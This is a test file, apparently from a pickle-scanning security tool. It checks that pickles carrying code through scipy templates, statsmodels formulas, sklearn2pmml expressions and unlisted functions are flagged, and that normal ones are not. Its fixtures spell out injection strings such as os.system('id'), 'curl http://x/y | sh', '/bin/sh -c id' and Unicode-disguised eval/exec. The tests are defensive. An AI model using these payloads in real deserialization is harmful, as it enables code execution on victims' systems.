import { describe, expect, it, vi } from "vitest";
import { global, join, pickle, type Parts, short, stackGlobal, unicode } from "../../../support/pickle-builder.ts";
import { readPickle } from "../../../support/read-pickle.ts";

const dangerous = async (...parts: Parts): Promise<string[]> =>
  ((await readPickle(pickle("PROTO 4", ...parts, "STOP"))).imports ?? [])
    .filter((use) => use.class === "dangerous")
    .map(({ module, name, offset }) => `${module}.${name} at ${offset}`);

/** An instance of a class with the given state. */
const stated = (module: string, name: string, state: Readonly<Record<string, string | true>>): Parts => [
  stackGlobal(module, name),
  ["EMPTY_TUPLE", "NEWOBJ", "EMPTY_DICT", "MARK"],
  ...Object.entries(state).map(([key, value]) => [short(key), value === true ? "NEWTRUE" : unicode(value)]),
  ["SETITEMS", "BUILD"],
];

const NORM = ["scipy.stats._continuous_distns", "norm_gen"] as const;
const DATA = ["statsmodels.base.data", "PandasData"] as const;
/** What scipy 1.17 writes for a distribution with one shape parameter, and for one that is not located. */
const TEMPLATES = [
  [
    "\ndef _parse_args(self, a,  loc=0, scale=1):\n    return (a, ), loc, scale\n",
    "\ndef _parse_args_rvs(self, a,  loc=0, scale=1, size=None):",
    "\n    return self._argcheck_rvs(a,  loc, scale, size=size)\n",
    "\ndef _parse_args_stats(self, a,  loc=0, scale=1, moments='mv'):\n    return (a, ), loc, scale, moments\n",
  ].join(""),
  "\ndef _parse_args(self,  loc=0):\n    return (), loc, 1\n",
];

describe("texts that a library runs when an object gets its state", () => {
  it.each(TEMPLATES)("scipy's own template is none: %s", async (template) => {
    expect(await dangerous(...stated(...NORM, { _parse_arg_template: template }))).toEqual([]);
  });

  it.each([
    "import os\nos.system('id')",
    "def _parse_args(self, a=print(1)):\n    return (), a, 1",
    "def _parse_args(self):\n    return self._argcheck_rvs(evil('id'))",
    "def _parse_args(self):\n    return (), (lambda: 1)(), 1",
    "@exec\ndef _parse_args(self):\n    return 1",
    "def _parse_args(self):\n    return eval ('print')",
    "def _parse_args(self):\n    return (), 'a'.join(loc)",
    "def _parse_args(self):\n    return (self.a)(loc)",
  ])("another template of scipy is run: %s", async (template) => {
    expect(await dangerous(...stated(...NORM, { _parse_arg_template: template }))).toEqual([
      expect.stringMatching(/^scipy\.stats\._continuous_distns\.norm_gen\.__setstate__ at \d+$/),
    ]);
  });

  it("so is one that hides in pairs, and in an object that protocol 1 makes", async () => {
    const pair: Parts = [short("_parse_arg_template"), short("evil()"), "TUPLE2"];
    const pairs: Parts = [stackGlobal(...NORM), "EMPTY_TUPLE", "NEWOBJ", ...pair, "TUPLE1", "BUILD"];
    expect(await dangerous(...pairs)).toHaveLength(1);
    const old: Parts = [global("copy_reg", "_reconstructor"), global(...NORM), global("__builtin__", "object"), "NONE"];
    const state: Parts = ["EMPTY_DICT", short("_parse_arg_template"), short("evil()"), "SETITEM", "BUILD"];
    expect(await dangerous(...old, "TUPLE3", "REDUCE", ...state)).toHaveLength(1);
  });

  it.each([
    "y ~ x1 + np.log(x2) + C(cat, Treatment('a'))",
    "Lottery ~ Literacy + np.log(Wealth) - 1",
    'y ~ bs(x, df=3) + Q("odd name") + I(x**2) + x.astype(float)',
    "close ~ open + high + C(input) + x.max()",
  ])("a formula of statsmodels is none: %s", async (formula) => {
    expect(await dangerous(...stated(...DATA, { restore_design_info: true, formula }))).toEqual([]);
  });

  it.each([
    "y ~ __import__('os').system('id')",
    "y ~ np.f2py.os.system('id')",
    "y ~ pd.read_pickle('/tmp/x')",
    "y ~ eval(x)",
    "y ~ np . load('x', allow_pickle=True)",
    "y ~ ().__class__.__base__",
    "y ~ list(map(eval, x))",
    "y ~ (exec)(x)",
    "y ~ \uff45val(x)",
    "y ~ ()._\uff3fclass__",
  ])("a formula that does more is evaluated: %s", async (formula) => {
    for (const marker of ["restore_design_info", "restore_model_spec"])
      expect(await dangerous(...stated(...DATA, { [marker]: true, formula }))).toContainEqual(
        expect.stringMatching(/^statsmodels\.base\.data\.PandasData\.__setstate__ at \d+$/),
      );
  });

  it("an expression that is evaluated when the model is used is told of", async () => {
    const transformer = (expr: string): Promise<string[]> =>
      dangerous(...stated("sklearn2pmml.preprocessing", "ExpressionTransformer", { expr }));
    expect(await transformer("__import__('os').system('id')")).toHaveLength(1);
    expect(await transformer("X[0] / X[1] if X[1] > 0 else -1")).toEqual([]);
    expect(await transformer("numpy.log(X[0]).astype(float)")).toEqual([]);
    expect(await transformer(`${"X[0] + ".repeat(20_000)}eval(X[1])`)).toHaveLength(1);
  });
});

describe("functions of no list that are given code", () => {
  const call = (module: string, name: string, ...args: Parts): Promise<string[]> =>
    dangerous(stackGlobal(module, name), "MARK", ...args, "TUPLE", "REDUCE");

  it.each(["__import__('os').system('id')", "import os; os.remove('x')", "curl http://x/y | sh", "/bin/sh -c id"])(
    "%s",
    async (code) => {
      expect(await call("some.library", "evaluate_it", short(code))).toEqual([
        expect.stringContaining("some.library.evaluate_it"),
      ]);
    },
  );

  it("behind a long text as well, and in letters that Python takes for those", async () => {
    expect(await call("some.library", "evaluate_it", unicode(`${"x + ".repeat(20_000)}__import__('os')`))).toHaveLength(
      1,
    );
    expect(await call("some.library", "evaluate_it", short("\uff45xec('x')"))).toHaveLength(1);
  });

  it("one long word of a formula is looked at once", async () => {
    expect(await call("patsy.own", "Factor", unicode("a".repeat(1_000_000)))).toEqual([]);
  });

  it("and not those that are given a text", async () => {
    expect(await call("own.errors", "Failed", short("the import of data failed in a subprocess"))).toEqual([]);
    expect(await call("builtins", "str", short("import os"))).toEqual([]);
  });

  it("a class of gensim that starts the program which it is made with", async () => {
    expect(await call("gensim.models.wrappers.ldamallet", "LdaMallet", short("touch x"))).toHaveLength(1);
    const kept = dangerous(stackGlobal("gensim.models.wrappers.ldamallet", "LdaMallet"), "EMPTY_TUPLE", "NEWOBJ");
    expect(await kept).toEqual([]);
  });

  it("what reaches attributes by their names is as dangerous as getattr", async () => {
    expect(
      await call(
        "sklearn.feature_selection._base",
        "_get_feature_importances",
        stackGlobal("sklearn.utils", "fixes"),
        short("threadpoolctl.sep"),
      ),
    ).toHaveLength(1);
    expect(await call("sklearn.utils.extmath", "_safe_accumulator_op", "NONE", "NONE")).toHaveLength(1);
  });
});

describe("texts that are given to any number of calls", () => {
  /** Characters that regular expressions are tried on, and findings, where a function of no list is called with one value. */
  async function scanned(calls: number, value: Parts): Promise<{ characters: number; rules: string[] }> {
    const head = pickle("PROTO 4", stackGlobal("some.library", "evaluate_it"), "BINPUT 0", "POP", ...value);
    const tuple = pickle("TUPLE1", "BINPUT 1", "POP");
    const call = pickle("BINGET 0", "BINGET 1", "REDUCE", "POP");
    const file = join([head, tuple, ...Array.from({ length: calls }, () => call), pickle("NONE", "STOP")]);
    const test = vi.spyOn(RegExp.prototype, "test");
    const { findings } = await readPickle(file);
    const characters = test.mock.calls.reduce((sum, [text]) => sum + text.length, 0);
    test.mockRestore();
    return { characters, rules: findings.map(({ rule }) => rule) };
  }

  it.each([500, 2000])("a long one is looked at once, for %i calls", async (calls) => {
    const text = "curl -".repeat(9000);
    const { characters } = await scanned(calls, [unicode(text)]);
    expect(characters).toBeGreaterThanOrEqual(text.length);
    expect(characters).toBeLessThan(3 * text.length + 1000 * calls);
  });

  it("one that is longer than what is looked at is too", async () => {
    const { characters } = await scanned(2000, [unicode("x".repeat(1_000_000))]);
    expect(characters).toBeLessThan(3_000_000);
  });

  it("so is one of many short ones", async () => {
    const { characters } = await scanned(2000, [unicode("curl -".repeat(100))]);
    expect(characters).toBeLessThan(3_000_000);
  });

  it("lists that are too much work are a limit", async () => {
    const texts = Array.from({ length: 1000 }, (_, i) => unicode(`text ${i}`));
    const list: Parts = ["EMPTY_LIST", "MARK", ...texts, "APPENDS"];
    expect((await scanned(5000, list)).rules).toContain("integrity/limit");
  });

  it("a program, options and an address are a command, however long the options are", async () => {
    const call = (text: string): Promise<string[]> =>
      dangerous(stackGlobal("some.library", "run_it"), unicode(text), "TUPLE1", "REDUCE");
    expect(await call(`curl ${"-s ".repeat(50)}https://host/x`)).toHaveLength(1);
    expect(await call("/usr/bin/wget -qO- http://host/x")).toHaveLength(1);
    expect(await call("curl is told of at https://host/x")).toEqual([]);
  });
});

describe("names that are long or have many parts", () => {
  it("are judged by each module that they lead through, and at once", async () => {
    const parts = "a.".repeat(1000);
    expect(await dangerous(unicode("torch"), unicode(`${parts}os.system`), "STACK_GLOBAL")).toHaveLength(1);
    expect(await dangerous(unicode("torch"), unicode(`${parts}b`), "STACK_GLOBAL")).toEqual([]);
    expect(await dangerous(unicode("torch"), unicode(`${"a.".repeat(3000)}b`), "STACK_GLOBAL")).toHaveLength(1);
  });
});
